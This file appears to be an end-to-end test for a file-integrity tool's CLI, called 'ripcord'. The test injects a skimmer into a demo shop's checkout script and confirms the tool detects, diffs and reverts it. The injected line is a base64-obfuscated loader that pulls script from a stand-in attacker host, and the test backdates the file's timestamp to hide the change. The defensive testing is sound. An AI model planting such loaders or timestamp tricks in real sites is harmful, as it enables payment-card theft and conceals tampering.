// End to end through the CLI with a real repository: baseline the demo shop, inject a
// skimmer (mtime set back as attackers do), `check` finds it and names the rule, `revert`
// puts the known-good file back, and `check` is clean again. No config file: --root mode,
// with state, repository and generated key under ./.ripcord of the working folder.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync, execFileSync } from 'node:child_process';
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
  appendFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';

const repoRoot = resolve(import.meta.dirname, '..', '..');
const main = join(repoRoot, 'src', 'cli', 'main.ts');
const demo = join(repoRoot, 'examples', 'demo-shop', 'www');
const fallback = join(repoRoot, 'test', 'fixtures', 'code', 'clean');

function ripcord(cwd: string, args: string[]): { code: number; stdout: string; stderr: string } {
  const env: Record<string, string | undefined> = { ...process.env, RIPCORD_TEST_SCRYPT_N: '1024' };
  delete env['RIPCORD_PASSPHRASE'];
  delete env['RIPCORD_PASSPHRASE_FILE'];
  const r = spawnSync(process.execPath, [main, ...args], { cwd, env, encoding: 'utf8' });
  return { code: r.status ?? -1, stdout: r.stdout, stderr: r.stderr };
}

const lines = (s: string) =>
  s
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((l) => JSON.parse(l) as Record<string, unknown>);

test('inject a skimmer, check finds it, revert restores it, check is clean', () => {
  const dir = mkdtempSync(join(tmpdir(), 'ripcord-e2e-int-'));
  try {
    const site = join(dir, 'shop');
    cpSync(existsSync(demo) ? demo : fallback, site, { recursive: true });
    const base = ripcord(dir, ['integrity', 'baseline', '--root', 'shop', '--preset', 'magento2', '--json']);
    assert.equal(base.code, 0, base.stderr);
    assert.ok((lines(base.stdout)[0]?.['files'] as number) > 3);
    const key = join(dir, '.ripcord', 'integrity', 'repository.key');
    assert.equal(statSync(key).mode & 0o777, 0o600, 'generated key is owner-only');

    const clean = ripcord(dir, ['integrity', 'check', '--json']);
    assert.equal(clean.code, 0, clean.stdout + clean.stderr);

    // The skimmer goes into the checkout script; mtime is set back to hide it.
    const target = existsSync(demo)
      ? 'pub/static/frontend/Harbor/pine/en_US/Magento_Checkout/js/view/payment.js'
      : 'checkout.js';
    const p = join(site, target);
    const original = readFileSync(p, 'utf8');
    writeFileSync(join(dir, 'ref'), '');
    execFileSync('touch', ['-r', p, join(dir, 'ref')]);
    appendFileSync(
      p,
      '\n;(function(){var s=document.createElement("script");s.src=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUveC5qcw==");document.head.appendChild(s)})();\n',
    );
    execFileSync('touch', ['-r', join(dir, 'ref'), p]);
    // Cache junk must not count: var/cache is left out by the magento2 preset.
    mkdirSync(join(site, 'var', 'cache'), { recursive: true });
    writeFileSync(join(site, 'var', 'cache', 'mage--1'), 'x');

    const found = ripcord(dir, ['integrity', 'check', '--json']);
    assert.equal(found.code, 1, found.stderr);
    const recs = lines(found.stdout);
    const changes = recs.filter((r) => r['type'] === 'change');
    assert.deepEqual(
      changes.map((c) => [c['path'], c['kinds']]),
      [[target, ['modified']]],
    );
    const findings = changes[0]?.['findings'] as { rule: string }[];
    assert.ok(
      findings.some((f) => f.rule === 'js-src-from-base64'),
      JSON.stringify(findings),
    );

    const diff = ripcord(dir, ['integrity', 'diff', target]);
    assert.equal(diff.code, 1);
    assert.match(diff.stdout, /^\+.*atob/m);

    const rev = ripcord(dir, ['integrity', 'revert', '--all', '--json']);
    assert.equal(rev.code, 0, rev.stdout + rev.stderr);
    assert.equal(readFileSync(p, 'utf8'), original);

    const after = ripcord(dir, ['integrity', 'check', '--json']);
    assert.equal(after.code, 0, after.stdout);
    const audit = readFileSync(join(dir, '.ripcord', 'integrity', 'audit.log'), 'utf8');
    assert.match(audit, /"action":"revert"/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
